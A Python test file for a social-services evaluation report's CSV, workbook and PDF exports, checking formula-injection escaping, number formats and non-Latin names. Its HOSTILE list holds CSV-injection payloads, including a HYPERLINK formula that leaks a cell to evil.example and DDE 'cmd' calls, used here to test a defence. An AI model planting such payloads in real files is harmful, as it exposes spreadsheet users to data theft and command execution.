"""The evaluation report's CSV: a text cell a spreadsheet would run as a formula (a
district or service name typed with `=`, `+`, `-`, `@`, a tab or a carriage return in
front) is exported as text; the numbers stay numbers and the report page shows the names
as they were typed."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from services.notify.evaluation import ReportLine
from services.notify.reports import report_csv, report_pdf, report_xlsx
from shared.text import spreadsheet_safe
from tests.support.documents import pdf_text

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def line(*, service_code: str = "emergency_relief", district: str = "Tenggarong") -> ReportLine:
    return ReportLine(
        service_code=service_code,
        period="2026-03",
        district=district,
        due=4,
        within_standard=3,
        late=1,
        unserved=0,
        pending=2,
        cancelled=1,
        share_within=0.75,
        median_seconds=-1800.0,  # a clock set back: a negative number, still a number
        p90_seconds=7200.0,
    )


def rows_of(exported: str) -> list[list[str]]:
    """The CSV as Excel set to Indonesian reads it: a BOM, then `;`-separated cells."""
    assert exported.startswith("\ufeff")
    return list(csv.reader(io.StringIO(exported[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_name_that_reads_as_a_formula_is_exported_as_text(hostile: str) -> None:
    exported = report_csv([line(district=hostile, service_code=hostile)])
    (_header, row) = rows_of(exported)
    assert row[0] == f"'{hostile}"
    assert row[1] == f"'{hostile}"
    assert row[3] == f"'{hostile}"
    assert row[4:] == ["4", "3", "1", "0", "75,0", "-0,50", "2,00", "2", "1", "0", ""]


def test_ordinary_names_are_exported_unchanged() -> None:
    exported = report_csv([line(district="Loa Kulu - Ilir")])
    (_header, row) = rows_of(exported)
    assert row[1:4] == ["emergency_relief", "2026-03", "Loa Kulu - Ilir"]


def test_the_service_is_named_in_words_beside_its_code() -> None:
    exported = report_csv([line()], {"emergency_relief": "Tanggap darurat bencana"}.__getitem__)
    (header, row) = rows_of(exported)
    assert (header[:2], row[:2]) == (
        ["Layanan", "Kode layanan"],
        ["Tanggap darurat bencana", "emergency_relief"],
    )


def test_a_number_has_a_decimal_comma_and_no_thousands_dot() -> None:
    long = ReportLine(
        service_code="procurement", period="2026-03", district="*", due=1200,
        within_standard=1000, late=150, unserved=50, pending=0, cancelled=0,
        share_within=1000 / 1200, median_seconds=1082.92 * 3600, p90_seconds=2000 * 3600,
    )  # fmt: skip
    (_header, row) = rows_of(report_csv([long]))
    assert row[3:] == [
        "(semua kecamatan)", "1200", "1000", "150", "50", "83,3", "1082,92", "2000,00", "0", "0",
        "0", "",
    ]  # fmt: skip


def test_only_a_formula_start_is_prefixed() -> None:
    assert [spreadsheet_safe(value) for value in ("=A1", "A=1", "", "12")] == [
        "'=A1",
        "A=1",
        "",
        "12",
    ]


def test_a_carriage_return_inside_a_name_does_not_start_a_new_row() -> None:
    exported = report_csv([line(district="Loa Kulu\rIlir")])
    rows = rows_of(exported)
    assert len(rows) == 2
    assert rows[1][3] == "Loa Kulu\rIlir"


def test_the_workbook_has_the_csv_columns_with_numbers_as_numbers() -> None:
    long = ReportLine(
        service_code="procurement", period="2026-03", district="*", due=1200,
        within_standard=1000, late=150, unserved=50, pending=0, cancelled=0,
        share_within=1000 / 1200, median_seconds=1082.92 * 3600, p90_seconds=None,
    )  # fmt: skip
    sheet = load_workbook(
        io.BytesIO(report_xlsx([long], {"procurement": "Pengadaan"}.__getitem__))
    ).active
    assert isinstance(sheet, Worksheet)
    header, row = (list(r) for r in sheet.iter_rows(min_row=1, max_row=2))
    assert [cell.value for cell in header] == list(
        report_csv([]).lstrip("\ufeff").strip().split(";")
    )
    assert [cell.value for cell in row[:8]] == [
        "Pengadaan", "procurement", "2026-03", "(semua kecamatan)", 1200, 1000, 150, 50
    ]  # fmt: skip
    assert row[8].value == pytest.approx(1000 / 1200) and row[8].number_format == "0.0%"
    assert row[9].value == pytest.approx(1082.92) and row[9].number_format == "#,##0.00"
    assert row[10].value is None  # nothing served: empty, not zero
    assert row[4].number_format == "#,##0" and row[4].data_type == "n"
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize("hostile", HOSTILE[:4])
def test_a_name_that_reads_as_a_formula_is_text_in_the_workbook_as_typed(hostile: str) -> None:
    sheet = load_workbook(io.BytesIO(report_xlsx([line(district=hostile)]))).active
    assert isinstance(sheet, Worksheet)
    assert (sheet["D2"].value, sheet["D2"].data_type) == (hostile, "s")


def test_the_pdf_prints_a_district_and_service_name_outside_latin_1_as_typed() -> None:
    # Issue 15 item 16: the core PDF fonts printed "?" for these.
    names = {"emergency_relief": "Tanggap darurat · Ṭuan"}
    content = report_pdf(
        [line(district="Đặng Ŋgurah")],
        title="Evaluasi standar pelayanan - Dinas Sosial Kabupaten Balangan",
        subtitle=f"Dicetak {datetime(2026, 3, 31, tzinfo=UTC):%d-%m-%Y}",
        service_name=names.__getitem__,
    )
    text = pdf_text(content)
    assert "Đặng Ŋgurah" in text and "Tanggap darurat · Ṭuan" in text
    assert "Evaluasi standar pelayanan - Dinas Sosial" in text
    assert "?" not in text
